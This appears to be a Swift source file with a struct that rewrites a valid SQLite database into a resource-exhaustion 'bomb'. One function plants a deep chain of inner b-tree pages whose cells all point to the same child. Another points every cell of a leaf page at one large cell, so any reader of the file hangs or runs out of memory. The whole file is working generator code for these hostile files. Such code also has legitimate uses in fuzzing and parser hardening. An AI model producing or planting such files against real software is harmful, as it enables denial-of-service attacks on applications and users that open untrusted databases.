import Foundation

/// A database file whose b-trees were made to hang or exhaust whoever reads them (sqlite.org/fileformat2.html, 1.6).
public struct PreparedDatabase {
  /// The bytes of the file.
  public private(set) var bytes: [UInt8]
  private let pageSize: Int

  /// Begins with the bytes of a sound file.
  public init(_ bytes: [UInt8]) {
    self.bytes = bytes
    let stated = Int(bytes[16]) << 8 | Int(bytes[17])
    pageSize = stated == 1 ? 65_536 : stated
  }

  /// Puts `depth` inner pages between the root of a tree and its first leaf. All cells of each lead to the page below,
  /// so the tree has some `50^depth` rows and a few pages more than before.
  public mutating func plantBomb(root: Int, depth: Int = 17) {
    var leaf = root
    while [2, 5].contains(bytes[header(of: leaf)]) {
      leaf = number(at: start(of: leaf) + number16(at: header(of: leaf) + 12))
    }
    if leaf == root { leaf = append(Array(bytes[start(of: root)..<(start(of: root) + pageSize)])) }
    // A leaf of an index or of a table WITHOUT ROWID: its inner pages hold rows too.
    let isIndex = bytes[header(of: leaf)] == 10
    var key: [UInt8]?
    if isIndex {
      let cell = start(of: leaf) + number16(at: header(of: leaf) + 8)
      key = Array(bytes[cell...(cell + Int(bytes[cell]))])
    }
    var child = leaf
    for _ in 1..<depth { child = append(inner(leadingTo: child, key: key, offset: 0)) }
    let offset = root == 1 ? 100 : 0
    let page = inner(leadingTo: child, key: key, offset: offset)
    bytes.replaceSubrange((start(of: root) + offset)..<(start(of: root) + pageSize), with: page[offset...])
    let count = bytes.count / pageSize
    bytes.replaceSubrange(28..<32, with: Self.big(count, 4))
  }

  /// Points every cell of a leaf at the largest one and adds as many more as fit, so that the rows hold many times what
  /// the page does.
  public mutating func overlapCells(ofLeaf page: Int) {
    let header = header(of: page)
    let cells = (0..<number16(at: header + 3)).map { number16(at: header + 8 + 2 * $0) }
    guard let largest = cells.min() else { return }
    let count = (number16(at: header + 5) - header + start(of: page) - 8) / 2
    bytes.replaceSubrange((header + 3)..<(header + 5), with: Self.big(count, 2))
    for cell in 0..<count {
      bytes.replaceSubrange((header + 8 + 2 * cell)..<(header + 10 + 2 * cell), with: Self.big(largest, 2))
    }
  }

  private mutating func append(_ page: [UInt8]) -> Int {
    bytes += page
    return bytes.count / pageSize
  }

  /// An inner page of 50 cells, or of as many as fit.
  private func inner(leadingTo child: Int, key: [UInt8]?, offset: Int) -> [UInt8] {
    var page = [UInt8](repeating: 0, count: pageSize)
    var (end, pointers) = (pageSize, [Int]())
    for cell in 1...50 {
      let bytes = Self.big(child, 4) + (key ?? [UInt8(cell)])
      guard offset + 12 + 2 * cell + bytes.count <= end else { break }
      end -= bytes.count
      page.replaceSubrange(end..<(end + bytes.count), with: bytes)
      pointers.append(end)
    }
    let head =
      [key == nil ? 5 : 2, 0, 0] + Self.big(pointers.count, 2) + Self.big(end, 2) + [0] + Self.big(child, 4)
      + pointers.flatMap { Self.big($0, 2) }
    page.replaceSubrange(offset..<(offset + head.count), with: head)
    return page
  }

  private func start(of page: Int) -> Int { (page - 1) * pageSize }
  private func header(of page: Int) -> Int { start(of: page) + (page == 1 ? 100 : 0) }
  private func number16(at place: Int) -> Int { Int(bytes[place]) << 8 | Int(bytes[place + 1]) }
  private func number(at place: Int) -> Int { number16(at: place) << 16 | number16(at: place + 2) }

  private static func big(_ value: Int, _ count: Int) -> [UInt8] {
    (0..<count).map { UInt8(truncatingIfNeeded: value >> (8 * (count - 1 - $0))) }
  }
}
